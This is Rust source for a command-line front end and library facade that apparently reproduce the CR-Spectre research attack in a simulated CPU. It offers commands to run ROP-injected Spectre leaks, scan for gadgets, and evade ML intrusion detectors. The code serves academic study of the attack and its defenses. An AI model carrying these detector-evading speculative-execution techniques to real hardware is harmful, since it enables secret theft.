    Ok(config)
}

fn report(outcome: &cr_spectre::attack::AttackOutcome) {
    println!("exit          : {:?}", outcome.trace.outcome.exit);
    println!("instructions  : {}", outcome.trace.outcome.instructions);
    println!("cycles        : {}", outcome.trace.outcome.cycles);
    println!("windows       : {}", outcome.trace.len());
    if !outcome.injection_spans.is_empty() {
        println!("injections    : {:?}", outcome.injection_spans);
    }
    println!("recovered     : {:?}", String::from_utf8_lossy(&outcome.recovered));
    println!("leak accuracy : {:.1}%", outcome.leak_accuracy() * 100.0);
}

fn cmd_attack(args: &Args) -> Result<(), String> {
    let config = attack_config(args)?;
    println!(
        "CR-Spectre against host `{}` ({}, perturbation {:?})\n",
        config.host,
        config.variant,
        config.perturb.is_some()
    );
    let outcome = run_cr_spectre(&config).map_err(|e| e.to_string())?;
    report(&outcome);
    Ok(())
}

fn cmd_spectre(args: &Args) -> Result<(), String> {
    let config = attack_config(args)?;
    println!("standalone {} against victim `{}`\n", config.variant, config.host);
    let outcome = run_standalone_spectre(&config);
    report(&outcome);
    Ok(())
}

fn cmd_gadgets(args: &Args) -> Result<(), String> {
    let host = host_by_name(args.value("host").unwrap_or("bitcount_50m"))?;
    let max_len: usize = args.value("max-len").unwrap_or("4").parse().map_err(|_| "bad --max-len")?;
    let limit: usize = args.value("limit").unwrap_or("40").parse().map_err(|_| "bad --limit")?;
    let built = vulnerable_host(host, HostOptions::default());
    let mut machine = Machine::new(MachineConfig::default());
    let loaded = machine.load(&built.image).map_err(|e| e.to_string())?;
    let set = Scanner::new(max_len).scan_image(&machine, &loaded);
    println!("{} gadgets in host `{}` (showing {}):\n", set.len(), host, limit.min(set.len()));
    for gadget in set.iter().take(limit) {
        println!("  {gadget}");
    }
    Ok(())
}

fn cmd_disasm(args: &Args) -> Result<(), String> {
    let host = host_by_name(args.value("host").unwrap_or("bitcount_50m"))?;
    let built = vulnerable_host(host, HostOptions::default());
    let mut machine = Machine::new(MachineConfig::default());
    let loaded = machine.load(&built.image).map_err(|e| e.to_string())?;
    match args.value("symbol") {
        Some(symbol) => {
            let addr = loaded
                .try_addr(symbol)
                .ok_or_else(|| format!("no symbol {symbol:?} in {}", built.image.name))?;
            let context: usize =
                args.value("context").unwrap_or("6").parse().map_err(|_| "bad --context")?;
            print!("{}", context_around(&machine, &loaded, addr, context));
        }
        None => {
            for line in disassemble_image(&machine, &loaded) {
                println!("{line}");
            }
        }
    }
    Ok(())
}

fn cmd_profile(args: &Args) -> Result<(), String> {
    let name = args.value("app").unwrap_or("crc32");
    let interval: u64 = args.value("interval").unwrap_or("2000").parse().map_err(|_| "bad --interval")?;
    let image = if let Ok(host) = host_by_name(name) {
        standalone_image(host)
    } else if let Some(app) = BenignApp::ALL.into_iter().find(|a| a.name() == name) {
        app.image()
    } else {
        return Err(format!("unknown app {name:?}; see `cr-spectre list`"));
    };
    let mut machine = Machine::new(MachineConfig::default());
    let loaded = machine.load(&image).map_err(|e| e.to_string())?;
    machine.start(loaded.entry);
    let trace = profile(&mut machine, name, interval);
    println!(
        "{name}: {} windows, {} instructions, {} cycles, IPC {:.4}",
        trace.len(),
        trace.outcome.instructions,
        trace.outcome.cycles,
        trace.outcome.ipc()
    );
    if let Some(path) = args.value("csv") {
        let file = std::fs::File::create(path).map_err(|e| e.to_string())?;
        trace_to_csv_full(&trace, file).map_err(|e| e.to_string())?;
        println!("wrote all 56 counters to {path}");
    }
    Ok(())
}

fn cmd_trace(args: &Args) -> Result<(), String> {
    let host = host_by_name(args.value("host").unwrap_or("crc32"))?;
    let limit: usize = args.value("limit").unwrap_or("40").parse().map_err(|_| "bad --limit")?;
    let image = standalone_image(host);
    let mut machine = Machine::new(MachineConfig::default());
    let loaded = machine.load(&image).map_err(|e| e.to_string())?;
    machine.start(loaded.entry);
    for (pc, instr) in machine.run_traced(limit) {
        println!("{pc:#010x}: {instr}");
    }
    println!("... ({} instructions retired so far)", machine.instructions());
    Ok(())
}

fn cmd_campaign(args: &Args) -> Result<(), String> {
    use cr_spectre::campaign::{fig4, fig5, fig6, table1, CampaignConfig, EvasionResult};
    use cr_spectre::telemetry;
    use cr_spectre::telemetry::sink::{JsonlSink, Sink, SummarySink};

    let mut cfg =
        if args.switch("quick") { CampaignConfig::smoke() } else { CampaignConfig::default() };
    if args.switch("no-fast-path") {
        // Escape hatch: run every machine on the uncached slow path.
        // Results are bit-identical (the fastpath_equivalence suite pins
        // this); the switch exists to prove it from the CLI.
        cfg.machine.fast_path = false;
    }
    if args.switch("threads") {
        return Err("--threads needs a value".to_string());
    }
    if let Some(raw) = args.value("threads") {
        let threads: usize = raw.parse().map_err(|_| "bad --threads".to_string())?;
        if threads == 0 {
            return Err("--threads must be at least 1".to_string());
        }
        cfg.threads = threads;
    }
    let artifact = args.value("artifact").unwrap_or("all");
    let wants = |name: &str| artifact == "all" || artifact == name;
    if !["all", "fig4", "fig5", "fig6", "table1"].contains(&artifact) {
        return Err(format!("unknown artifact {artifact:?} (fig4 | fig5 | fig6 | table1 | all)"));
    }
    let quiet = args.switch("quiet");
    if args.switch("telemetry") {
        return Err("--telemetry needs a path".to_string());
    }
    if let Some(path) = args.value("telemetry") {
        // Recording is off by default; installing sinks turns it on for
        // this run. Telemetry observes the campaign, it never feeds back:
        // results are bit-identical with and without it.
        let jsonl = JsonlSink::create(path)
            .map_err(|e| format!("cannot create telemetry file {path:?}: {e}"))?;
        let mut sinks: Vec<Box<dyn Sink>> = vec![Box::new(jsonl)];
        if !quiet {
            sinks.push(Box::new(SummarySink::new()));
        }
        telemetry::install(sinks);
    }
    if !quiet {
        println!("campaign on {} worker thread(s)\n", cfg.threads);
    }

    let headline = |result: &EvasionResult| {
        let spectre_mean = result.spectre.iter().map(|s| s.mean()).sum::<f64>()
            / result.spectre.len().max(1) as f64;
        let cr_min = result
            .cr_spectre
            .iter()
            .flat_map(|s| s.accuracy.iter().copied())
            .fold(f64::INFINITY, f64::min);
        (spectre_mean, if cr_min.is_finite() { cr_min } else { 0.0 })
    };

    if wants("fig4") {
        let rows = fig4(&cfg);
        let acc4: Vec<f64> = rows
            .iter()
            .filter_map(|r| r.accuracies.iter().find(|(s, _)| *s == 4).map(|&(_, a)| a))
            .collect();
        let mean4 = acc4.iter().sum::<f64>() / acc4.len().max(1) as f64;
        println!("fig4  : {} hosts, mean accuracy at 4 features {:.1}%", rows.len(), mean4 * 100.0);
    }
    if wants("fig5") {
        let (spectre, cr) = headline(&fig5(&cfg));
        println!(
            "fig5  : offline HID — Spectre mean {:.1}%, CR-Spectre minimum {:.1}%",
            spectre * 100.0,
            cr * 100.0
        );
    }
    if wants("fig6") {
        let (spectre, cr) = headline(&fig6(&cfg));
        println!(
            "fig6  : online HID — Spectre mean {:.1}%, CR-Spectre minimum {:.1}%",
            spectre * 100.0,
            cr * 100.0
        );
    }
    if wants("table1") {
        let iterations = if args.switch("quick") { 1 } else { 5 };
        let rows = table1(&cfg, iterations);
        let n = rows.len().max(1) as f64;
        let off = rows.iter().map(|r| r.overhead_offline()).sum::<f64>() / n;
        let on = rows.iter().map(|r| r.overhead_online()).sum::<f64>() / n;
        println!(
            "table1: mean IPC overhead {:+.2}% offline, {:+.2}% online over {} hosts",
            off * 100.0,
            on * 100.0,
            rows.len()
        );
    }
    if !quiet {
        println!(
            "\nfull paper-style tables: cargo run --release -p cr-spectre-bench --bin <artifact>"
        );
    }
    let _ = telemetry::shutdown();
    Ok(())
}

fn cmd_list() {
    println!("MiBench-like hosts:");
    for w in Mibench::ALL {
        println!("  {:<14} {}", w.name(), w.display_name());
    }
    println!("\nbenign applications:");
    for a in BenignApp::ALL {
        println!("  {}", a.name());
    }
    println!("\nsecret carried by every host: {:?}", String::from_utf8_lossy(SECRET));
    println!("\nexperiment harnesses live in the bench crate:");
    println!("  cargo run --release -p cr-spectre-bench --bin fig4|fig5|fig6|table1|ablations|defense_overhead");
}

const USAGE: &str = "\
usage: cr-spectre <command> [options]

commands:
  attack    run the full ROP-injected CR-Spectre chain
  spectre   run the attack binary standalone (no injection)
  gadgets   scan a host's executable pages for ROP gadgets
  disasm    disassemble a host image (--symbol S for a window)
  profile   profile a workload and optionally export CSV (--csv PATH)
  trace     print the first --limit executed instructions of a host
  campaign  run the evaluation drivers (Figures 4-6, Table I) in parallel
  list      list hosts and benign applications

common options:
  --host H          target host (default bitcount_50m)
  --variant v1|rsb  speculation variant
  --perturb none|paper|evasive
  --canary          compile the host with a stack canary
  --aslr SEED       enable ASLR
  --no-clflush / --evict-reload / --shadow-stack / --invisispec / --csf
  --no-fast-path    disable the execution fast path (predecode + page
                    caches); results are bit-identical, only slower

campaign options:
  --artifact A      fig4 | fig5 | fig6 | table1 | all (default all)
  --threads N       worker threads (default: all cores; results are
                    bit-identical at every thread count)
  --quick           smoke-scale configuration
  --telemetry PATH  record a structured JSONL trace of the run (spans,
                    counters, histograms; off by default, and results
                    are bit-identical with it on)
  --quiet           only final result lines; suppresses commentary and
                    the telemetry summary report
";

fn main() -> ExitCode {
    let raw: Vec<String> = std::env::args().skip(1).collect();
    let Some((command, rest)) = raw.split_first() else {
        eprint!("{USAGE}");
        return ExitCode::FAILURE;
    };
    let args = match Args::parse(rest) {
        Ok(a) => a,
        Err(e) => {
            eprintln!("error: {e}\n");
            eprint!("{USAGE}");
            return ExitCode::FAILURE;
        }
    };
    let result = match command.as_str() {
        "attack" => cmd_attack(&args),
        "spectre" => cmd_spectre(&args),
        "gadgets" => cmd_gadgets(&args),
        "disasm" => cmd_disasm(&args),
        "profile" => cmd_profile(&args),
        "trace" => cmd_trace(&args),
        "campaign" => cmd_campaign(&args),
        "list" => {
            cmd_list();
            Ok(())
        }
        "help" | "--help" | "-h" => {
            print!("{USAGE}");
            Ok(())
        }
        other => Err(format!("unknown command {other:?}")),
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("error: {e}");
            ExitCode::FAILURE
        }
    }
}

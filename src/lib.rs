//! # cr-spectre
//!
//! Reproduction of **"CR-Spectre: Defense-Aware ROP Injected Code-Reuse
//! Based Dynamic Spectre"** (DATE 2022) as a pure-Rust system: a
//! microarchitectural simulator with speculative execution, a complete
//! ROP toolchain, MiBench-like workloads, an ML-based hardware intrusion
//! detector, and the CR-Spectre attack itself — dynamic, defense-aware
//! perturbation included.
//!
//! This façade crate re-exports every subsystem:
//!
//! | module | crate | role |
//! |---|---|---|
//! | [`sim`] | `cr-spectre-sim` | CPU, caches, branch predictors, PMU, memory protection |
//! | [`asm`] | `cr-spectre-asm` | assembler, runtime, loader images |
//! | [`rop`] | `cr-spectre-rop` | gadget scanning, chains, overflow payloads |
//! | [`workloads`] | `cr-spectre-workloads` | MiBench-like hosts, benign apps, vulnerable host |
//! | [`hpc`] | `cr-spectre-hpc` | PMU profiling, features, datasets |
//! | [`hid`] | `cr-spectre-hid` | LR/SVM/MLP/NN detectors, offline + online |
//! | [`telemetry`] | `cr-spectre-telemetry` | spans, counters, JSONL trace export (off by default) |
//! | [`attack`], [`campaign`], [`covert`], [`perturb`], [`spectre`] | `cr-spectre-core` | the paper's contribution |
//!
//! # Quickstart
//!
//! ```no_run
//! use cr_spectre::attack::{run_cr_spectre, AttackConfig};
//! use cr_spectre::workloads::mibench::Mibench;
//!
//! let outcome = run_cr_spectre(&AttackConfig::new(Mibench::Sha1))?;
//! println!("stolen: {}", String::from_utf8_lossy(&outcome.recovered));
//! # Ok::<(), cr_spectre::attack::AttackError>(())
//! ```
//!
//! See `examples/` for runnable end-to-end scenarios and
//! `crates/bench/src/bin/` for the Figure 4–6 / Table I harnesses.

#![warn(missing_docs)]

pub use cr_spectre_asm as asm;
pub use cr_spectre_hid as hid;
pub use cr_spectre_hpc as hpc;
pub use cr_spectre_rop as rop;
pub use cr_spectre_sim as sim;
pub use cr_spectre_telemetry as telemetry;
pub use cr_spectre_workloads as workloads;

pub use cr_spectre_core::{attack, campaign, covert, perturb, spectre};

pub use cr_spectre_core::{
    build_spectre_image, run_cr_spectre, run_standalone_spectre, AttackConfig, AttackOutcome,
    CovertConfig, PerturbParams, SpectreConfig, SpectreVariant, VariantGenerator,
};
